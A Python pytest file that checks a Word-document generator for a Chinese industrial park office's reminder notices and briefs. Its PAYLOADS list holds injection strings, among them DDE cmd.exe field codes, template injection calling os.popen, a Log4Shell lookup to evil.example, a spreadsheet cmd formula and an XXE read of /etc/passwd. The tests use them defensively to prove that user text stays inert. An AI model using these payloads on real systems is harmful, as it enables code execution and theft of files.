"""The office's papers: whatever people write stays text, each says what the record says, the brief is one page."""

import io
import unicodedata
import zipfile
from collections.abc import AsyncIterator, Mapping, Sequence
from dataclasses import fields, replace
from functools import cache
from math import ceil
from typing import Any
from xml.etree import ElementTree as ET

import docx
import pytest

from handlers import papers
from reports.paper import Paper
from reports.papers import A4, CLOSE, TITLE_SIZE, build, qr_code
from storage.database import Tx
from storage.values import to_ms
from tests.making import civil
from tests.stories.town import Town
from tests.summary import Tally
from texts import Catalogue

LINK = "https://park.example/slip/K7QF-3M9T-X2K7-QF3M-9TX2-K7QF-3M9T"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
PAYLOADS = (
    "a<b>&c",
    "</w:t></w:r></w:p><w:p><w:r><w:t>injected",
    '<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/>',
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" }',
    "{{ 7*7 }}",
    "{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${jndi:ldap://evil.example/a}",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "]]>",
    "<![CDATA[x]]>",
    "<!-- x -->",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "&x; &#0; &#x41; &amp;",
    "\x00\x01\x08\x0b\x0c\x0e\x1f",
    "\x7f\x80\x9f",
    "\ud800\udfff",
    "\ufffe\uffff",
    "\u202etxt.exe\u202c",
    "\u2066x\u2069\u200f\u061c",
    "line\r\nbreak\rand\nmore\ttab",
    "http://evil.example/",
    "[link](javascript:alert(1))",
    '<w:hyperlink r:id="rId1"/>',
    '<a:blip r:link="http://evil.example/x.png"/>',
    "x" * 5000,
    "😀👨‍👩‍👧𠮷",
    "'\";--",
    "../../etc/passwd",
    "\u2028\u2029\ufeff",
)
TURNING = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
SHAPES = {
    "title": "{}",
    "number": "{}",
    "addressee": "{}",
    "opening": ["{}"],
    "rows": [("{}", "{}")],
    "history_title": "{}",
    "history": [("{}", "{}")],
    "closing": ["{}"],
    "signed": ["{}"],
    "slip_title": "{}",
    "slip": [("{}", "{}")],
    "link": LINK,
    "link_words": "{}",
}


def filled(shape: Any, payload: str) -> Any:
    """The same shape with a payload in every place for words."""
    if isinstance(shape, str):
        return payload if shape == "{}" else shape
    if isinstance(shape, dict):
        return {name: filled(item, payload) for name, item in shape.items()}
    return type(shape)(filled(item, payload) for item in shape)


def members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def skeleton(content: bytes) -> Sequence[tuple[str, tuple[str, ...]]]:
    """Every element of the text without its words: what markup there is."""
    root = ET.fromstring(members(content)["word/document.xml"])
    breaks = {f"{W}br", f"{W}tab", f"{W}t", f"{W}cr", f"{W}noBreakHyphen"}
    return [(node.tag, tuple(sorted(node.attrib))) for node in root.iter() if node.tag not in breaks]


def relations(content: bytes) -> list[str]:
    """Every relation of the package: type and target."""
    found = []
    for name, body in members(content).items():
        if name.endswith(".rels"):
            nodes = ET.fromstring(body)
            found += [f"{node.get('Type')} {node.get('Target')} {node.get('TargetMode')}" for node in nodes]
    return sorted(found)


def plain(text: str) -> str:
    """What is left of a text on paper: no characters that cannot be printed or that turn the direction."""
    gone = ("Cc", "Cs", "Cn")
    kept = (char for char in text.replace("\r\n", "\n").replace("\r", "\n") if char not in TURNING)
    return "".join(char for char in kept if char in "\n\t" or unicodedata.category(char) not in gone)


@cache
def harmless(compact: bool) -> bytes:
    """A paper with one plain character in every place."""
    return build(Paper(**filled(SHAPES, "字"), compact=compact))


def test_every_place_for_words_is_tried() -> None:
    assert set(SHAPES) | {"compact"} == {field.name for field in fields(Paper)}
    assert len(PAYLOADS) >= 30


@pytest.mark.parametrize("compact", [False, True])
@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_whatever_people_write_stays_text(payload: str, compact: bool, tally: Tally) -> None:
    tame = harmless(compact)
    wild = build(Paper(**filled(SHAPES, payload), compact=compact))
    for name, body in members(wild).items():
        if name.endswith((".xml", ".rels")):
            ET.fromstring(body)
    assert skeleton(wild) == skeleton(tame)
    assert relations(wild) == relations(tame)
    assert [node for node in relations(wild) if "External" in node] == []
    paper = docx.Document(io.BytesIO(wild))
    expected = plain(payload)
    cells = [cell.text for table in paper.tables for row in table.rows for cell in row.cells]
    assert cells == [*[expected] * 6, "", expected]
    assert sum(paragraph.text == expected for paragraph in paper.paragraphs) >= 8
    tally("S8", 1)


def test_no_field_macro_or_foreign_picture_is_on_a_paper() -> None:
    content = build(Paper(**filled(SHAPES, "字")))
    body = members(content)["word/document.xml"].decode()
    active = ("fldSimple", "fldChar", "instrText", "hyperlink", "object", "altChunk")
    assert [tag for tag in active if tag in body] == []
    assert [name for name in members(content) if "vba" in name.lower() or "embeddings" in name] == []
    media = [body for name, body in members(content).items() if name.startswith("word/media/")]
    assert media == [qr_code(LINK)]


def test_a_paper_says_nothing_of_who_wrote_the_program() -> None:
    about = docx.Document(io.BytesIO(build(Paper("催办通知书", "1")))).core_properties
    assert (about.author, about.comments, about.title) == ("", "", "催办通知书")


# Each kind, from the record -------------------------------------------------------------------------------------------
@pytest.fixture
async def town() -> AsyncIterator[Town]:
    opened = await Town.open()
    await opened.settle()
    yield opened
    await opened.close()


async def case(town: Town, lead: str = "王敏") -> None:
    """A matter in work, with news, a part, and an answer from outside."""
    await town.says("张建国", "诉求 车间电压低，一天跳停三次")
    if lead != "王敏":
        await town.says("周芳", f"派单 1 {lead}")
    await town.presses(lead, "接单")
    await town.says("周芳", "协办 1 教体局 出具意见")
    await town.says(lead, "进展 1 已到现场查看")


async def written(town: Town, kind: str, **facts: Any) -> tuple[str, Mapping[str, str], str]:
    """A paper of that kind: its file's name, its tables by label, its other lines."""
    at = to_ms(civil("2026-03-27 10:00"))
    owed = {"document": kind, "facts": {"number": "1", "part": 0, "at": at, "language": "zh", **facts}}
    rules = town.app.park.rules

    async def unit(tx: Tx) -> tuple[str, bytes]:
        return await papers.attachment(tx, rules, Catalogue.load(strict=True), owed)

    name, content = await town.database.reading(unit)
    paper = docx.Document(io.BytesIO(content))
    cells: dict[str, str] = {}
    for row in (row for table in paper.tables for row in table.rows):
        label, value = row.cells[0].text, row.cells[1].text
        cells[label] = f"{cells[label]}\n{value}" if label in cells else value
    return name, cells, "\n".join(paragraph.text for paragraph in paper.paragraphs)


async def person(town: Town, name: str) -> int:
    return int((await town.one("SELECT id FROM people WHERE name = :name", name=name))["id"])


ABOUT = {
    "企业名称": "宏达机械",
    "片区": "大树营片区",
    "诉求类别": "要素保障·用电",
    "问题和诉求": "车间电压低，一天跳停三次",
    "受理时间": "3月11日（周三）09:00",
}
INSIDE = {
    "办结时限": "3月25日（周三）17:30",
    "配合单位": "教体局：出具意见（3月16日（周一）17:30前）",
    "最近进展": "最近进展：3月11日（周三）09:02 已到现场查看",
    "是否超期": "超期2个工作日",
    "提醒次数": "已提醒0次",
}


async def test_a_reminder_says_what_the_record_says(town: Town) -> None:
    await case(town)
    name, cells, text = await written(town, "reminder_notice", person=await person(town, "王敏"))
    assert name == "催办通知书-LQ-2026-00001.docx"
    assert {label: cells[label] for label in ABOUT} == ABOUT
    assert cells["牵头"].startswith("王敏")
    assert {label: cells[label] for label in INSIDE if label != "最近进展"} == {
        label: value for label, value in INSIDE.items() if label != "最近进展"
    }
    assert "已到现场查看" in cells["最近进展"]
    stands = ("催办通知书", "LQ-2026-00001", "王敏：", "超过2个工作日", "测试园区优化营商环境办公室", "2026年3月27日")
    assert [words for words in stands if words not in text] == []


async def test_a_notice_of_supervision_says_what_is_wanted_and_by_when(town: Town) -> None:
    await case(town)
    wanted = {"text": "请建设局会商", "until": to_ms(civil("2026-04-01 17:30"))}
    _, cells, text = await written(town, "supervision_notice", person=await person(town, "王敏"), **wanted)
    assert "现予督办。要求：请建设局会商。请于4月1日（周三）17:30前书面反馈" in text
    assert {label: cells[label] for label in ABOUT} == ABOUT


async def test_a_brief_has_what_is_stuck_and_what_was_done(town: Town) -> None:
    await case(town)
    facts = {"person": await person(town, "孙县长"), "text": "卡在变压器指标，请县里协调"}
    name, cells, text = await written(town, "chief_brief", **facts)
    assert name == "提请领导协调事项-LQ-2026-00001.docx"
    assert {label: cells[label] for label in ABOUT} == ABOUT
    assert cells["卡点和建议"] == "卡在变压器指标，请县里协调"
    assert [value for value in cells.values() if "进展：已到现场查看" in value] != []
    assert "办理经过" in text
    assert "孙县长：" not in text


@pytest.mark.parametrize("kind", ["reminder_notice", "supervision_notice", "forward_slip"])
@pytest.mark.parametrize("language", ["zh", "en"])
async def test_an_outside_unit_is_asked_and_sees_nothing_of_how_the_park_drives_its_own(
    town: Town, kind: str, language: str
) -> None:
    await case(town, "赵工")
    await town.says("赵工", "进展 1 已催办供电所，领导已督办")
    await town.says("周芳", "协办 1 供电公司 更换变压器") if kind == "forward_slip" else None
    who: dict[str, Any] = {"person": await person(town, "赵工")}
    if kind == "forward_slip":
        who = {"part": await shared_with_power(town), "until": to_ms(civil("2026-04-01 17:30"))}
    asked = {"text": "尽快更换", "until": to_ms(civil("2026-04-01 17:30"))} if kind == "supervision_notice" else {}
    name, cells, text = await written(town, kind, language=language, **who, **asked)
    words = "\n".join([name, text, *cells, *cells.values()])
    assert [word for word in ("催办", "督办", "overdue", "supervision", "Reminder", "教体局") if word in words] == []
    assert "县供电公司" in words
    if language == "zh":
        assert "工作提示函" in text or "诉求转办单" in text
        assert "商请" in text or "感谢" in text


async def shared_with_power(town: Town) -> int:
    """The part of an outside unit, whoever leads."""
    await town.database.transaction(
        lambda tx: tx.run(
            """UPDATE parts SET unit = '县供电公司',
                                department_id = (SELECT id FROM departments WHERE code = 'power')"""
        )
    )
    return 1


async def test_a_matter_that_does_not_exist_has_no_paper(town: Town) -> None:
    with pytest.raises(LookupError):
        await written(town, "reminder_notice")


# One page -------------------------------------------------------------------------------------------------------------
def brief_height(content: bytes) -> float:
    """How high a brief is at most, in points: all but figures as wide as a Chinese character, lines as they are set."""
    paper = docx.Document(io.BytesIO(content))
    height = TITLE_SIZE * 1.75 + 4 + 2 * (CLOSE.table * 1.75 + 4)
    for table in paper.tables:
        for row in table.rows:
            lines = max(_lines(cell.text, width) for cell, width in zip(row.cells, CLOSE.columns, strict=True))
            height += lines * (CLOSE.pitch or 0) + 2 * CLOSE.padding + 0.5
        height += CLOSE.table
    return height + 2 * (CLOSE.text * 1.75 + 4)


def _lines(text: str, width: float) -> int:
    a_line = int((width - 10.8) // CLOSE.table)
    wide = [sum(0.5 if char in "0123456789:" else 1 for char in line) for line in text.split("\n")]
    return sum(max(ceil(line / a_line), 1) for line in wide)


async def _give_long_names(tx: Tx) -> None:
    await tx.run("UPDATE enterprises SET short_name = :name, zone = :name", {"name": "很长的名字" * 40})
    await tx.run("UPDATE people SET name = name || :more WHERE name = '王敏'", {"more": "长" * 100})
    await tx.run("UPDATE departments SET name = :name WHERE code = 'school'", {"name": "部" * 200})


async def longest_brief(town: Town) -> bytes:
    """A brief of which everything is as long as people can make it."""
    await town.says("张建国", "诉求 " + "车间电压低\n" * 400)
    await town.presses("王敏", "接单")
    await town.says("周芳", "协办 1 教体局 " + "出具意见\n" * 300)
    await town.says("王敏", "超权限 1 市供电公司 3月9日 " + "增容批复" * 300)
    for _ in range(9):
        await town.says("王敏", "进展 1 " + "已到现场查看\n" * 300)
    await town.database.transaction(_give_long_names)
    owed = {"number": "1", "part": 0, "at": to_ms(civil("2026-12-31 10:00")), "language": "zh", "text": "卡\n" * 1500}
    owed["person"] = await person(town, "孙县长")
    rules = town.app.park.rules
    catalogue = Catalogue.load(strict=True)
    brief = {"document": "chief_brief", "facts": owed}
    _, content = await town.database.reading(lambda tx: papers.attachment(tx, rules, catalogue, brief))
    return content


async def test_the_longest_brief_is_one_page(town: Town) -> None:
    content = await longest_brief(town)
    paper = docx.Document(io.BytesIO(content))
    assert [len(table.rows) for table in paper.tables] == [12, papers.MOST_STEPS]
    assert brief_height(content) <= A4[1] - sum(CLOSE.margins)


def test_a_paper_without_anything_optional_has_nothing_empty_on_it() -> None:
    paper = docx.Document(io.BytesIO(build(Paper("工作提示函", "LQ-2026-00001", rows=[("企业名称", "宏达机械")]))))
    assert [paragraph.text for paragraph in paper.paragraphs if paragraph.text] == ["工作提示函", "LQ-2026-00001"]
    assert len(paper.tables) == 1


def test_a_compact_paper_says_the_same_as_a_wide_one() -> None:
    wide = Paper(**filled(SHAPES, "字"))
    both = [docx.Document(io.BytesIO(build(paper))) for paper in (wide, replace(wide, compact=True))]
    said = [[paragraph.text for paragraph in paper.paragraphs] for paper in both]
    assert said[0] == said[1]
